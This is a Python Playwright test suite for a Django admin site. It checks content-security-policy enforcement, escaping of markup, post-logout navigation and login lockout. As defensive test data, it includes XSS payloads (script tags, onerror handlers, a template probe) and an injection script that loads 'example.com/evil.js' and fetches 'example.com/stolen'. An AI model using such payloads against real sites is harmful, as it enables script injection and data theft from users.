"""What the browser enforces: the content security policy, and no page after logging out."""

import json
import re
from collections.abc import Iterator

import pytest
from django.contrib.admin.utils import quote
from playwright.sync_api import Browser, Page, expect

from tests.support.browser import (
    PASSWORD,
    LiveSite,
    open_window,
    serious_accessibility_faults,
)
from tests.support.url_table import TABLE

NAME = "<script>document.hacked=1</script>"
MARKUP = """"><img src=x onerror="document.hacked=1">'-alert(1)-'{{7*7}}`"""


@pytest.fixture
def root(browser: Browser, site: LiveSite) -> Iterator[Page]:
    """A window of a superuser. It fails the test for each violation of the policy."""
    with open_window(browser, site, "root") as page:
        yield page


@pytest.fixture
def stranger(browser: Browser) -> Iterator[Page]:
    context = browser.new_context(viewport={"width": 390, "height": 700}, color_scheme="dark")
    yield context.new_page()
    context.close()


def is_html(page: Page, url: str) -> bool:
    answer = page.request.get(url, headers={"Accept": "text/html"})
    return "text/html" in answer.headers.get("content-type", "")


def issue_token(page: Page, site: LiveSite) -> str:
    """Issue an API token and return its id."""
    page.goto(site.url("/admin/products/apitoken/add/"))
    page.select_option("[name=user]", label="root")
    page.fill("[name=label]", MARKUP)
    page.get_by_role("button", name="Save", exact=True).click()
    expect(page.get_by_text("Copy this token now")).to_be_visible()
    link = page.locator("#result_list a[href*='/apitoken/']").first.get_attribute("href") or ""
    return link.split("/apitoken/")[1].split("/")[0]


def addresses_to_visit() -> list[str]:
    """Return the addresses that answer GET, each of them for one of the two products."""
    # One ends the session, one is a download, and those of jobs and plans need one of these.
    excluded = ("logout", "export", "{job}", "{plan}")
    addresses = [row.address for row in TABLE.values() if "GET" in row.needs]
    visited = [item for item in addresses if not any(part in item for part in excluded)]
    visited += ["/admin/products/product/?q=script", "/admin/products/product/none/change/"]
    return [re.sub(r"\bp2\b", "policy-2", re.sub(r"\bp[01]\b", "policy-1", i)) for i in visited]


def test_markup_in_a_product_is_text_on_every_page(root: Page, site: LiveSite) -> None:
    site.create("policy-1", name=NAME, description=MARKUP, features=[MARKUP, NAME], period=MARKUP)
    site.create("policy-2", name=MARKUP, description=NAME)
    site.change("policy-1", price="7.00")
    ids = {"user": 1, "holder": 1, "group": 1, "token": quote(issue_token(root, site))}
    for address in addresses_to_visit():
        url = site.url(address).format(**ids)
        if is_html(root, url):
            root.goto(url)
            assert root.evaluate("document.hacked") is None, url
    root.goto(site.url("/admin/products/product/bulk/?id=policy-1&id=policy-2"))
    root.get_by_label("Percent").fill("10")
    root.get_by_role("button", name="Preview").click()
    expect(root.get_by_role("button", name="Apply to 2 products")).to_be_visible()
    assert root.evaluate("document.hacked") is None
    root.goto(site.url("/admin/products/product/policy-1/change/"))
    expect(root.locator("[name=name]")).to_have_value(NAME)


INJECT = """async () => {
    const blocked = [];
    document.addEventListener("securitypolicyviolation", (event) => {
      blocked.push(event.effectiveDirective);
    });
    const script = document.createElement("script");
    script.textContent = "document.hacked = 1";
    document.body.append(script);
    const box = document.createElement("div");
    box.innerHTML = '<img src="x" onerror="document.hacked = 1">'
      + '<a href="javascript:document.hacked = 1">x</a>'
      + '<style>body { --hacked: 1 }</style><object data="/admin/"></object>'
      + '<iframe src="/admin/"></iframe><script src="https://example.com/evil.js"></' + 'script>';
    document.body.append(box);
    box.querySelector("a").click();
    const outside = document.createElement("script");
    outside.src = "https://example.com/evil.js";
    document.body.append(outside);
    await fetch("https://example.com/stolen").catch(() => 0);
    const until = Date.now() + 10000;
    while (new Set(blocked).size < 6 && Date.now() < until) {
      await new Promise((done) => setTimeout(done, 20));
    }
    const styled = getComputedStyle(document.body).getPropertyValue("--hacked");
    return [[...new Set(blocked)].sort(), document.hacked ?? null, styled];
}"""


def test_injected_markup_is_blocked(stranger: Page, site: LiveSite) -> None:
    for address in ("/admin/login/", "/v1.0/docs", "/v1.0/products"):
        stranger.goto(site.url(address))
        assert stranger.evaluate(INJECT) == [
            [
                "connect-src",
                "frame-src",
                "object-src",
                "script-src-attr",
                "script-src-elem",
                "style-src-elem",
            ],
            None,
            "",
        ]


def test_swagger_ui_and_browsable_api_work_under_the_policy(root: Page, site: LiveSite) -> None:
    root.goto(site.url("/v1.0/docs"))
    listing = root.locator("#operations-products-products_list, .opblock-get").first
    listing.locator(".opblock-summary").click()
    listing.get_by_role("button", name="Try it out").click()
    listing.get_by_role("button", name="Execute").click()
    expect(
        listing.locator(".live-responses-table tbody .response-col_status").first
    ).to_contain_text("200")
    root.goto(site.url("/v1.0/products"))
    product = {
        "productId": "browsed",
        "name": "Browsed hosting",
        "description": "Made by hand.",
        "price": "1.00",
    }
    root.fill("textarea[name=_content]", json.dumps(product))
    root.get_by_role("button", name="POST").click()
    expect(root.locator(".response-info")).to_contain_text("HTTP 202 Accepted")
    assert site.product("browsed")["name"] == "Browsed hosting"


def test_back_after_logging_out_shows_nothing(browser: Browser, site: LiveSite) -> None:
    page = browser.new_page(viewport={"width": 1400, "height": 800})
    log_in(page, site, "vic", PASSWORD)
    page.goto(site.url())
    expect(page.locator("#changelist")).to_be_visible()
    page.locator("form[action$='/admin/logout/']").first.evaluate("form => form.submit()")
    expect(page.get_by_text("Logged out")).to_be_visible()
    page.go_back()
    expect(page).to_have_url(re.compile(r"/admin/login/\?next="))
    page.close()


def log_in(page: Page, site: LiveSite, name: str, password: str) -> None:
    page.goto(site.url("/admin/login/"))
    page.fill("[name=username]", name)
    page.fill("[name=password]", password)
    page.click("[type=submit]")


def test_the_lockout_page_is_accessible_and_says_how_long(stranger: Page, site: LiveSite) -> None:
    for _ in range(4):
        log_in(stranger, site, "mallory", "a guess")
        expect(stranger.get_by_text("Wrong username or password.")).to_be_visible()
    log_in(stranger, site, "mallory", "a guess")
    expect(stranger.get_by_role("alert")).to_contain_text("Please try again in 15 minutes")
    assert serious_accessibility_faults(stranger) == []
    stranger.get_by_role("link", name="Try again").click()
    expect(stranger.locator("[name=password]")).to_be_visible()
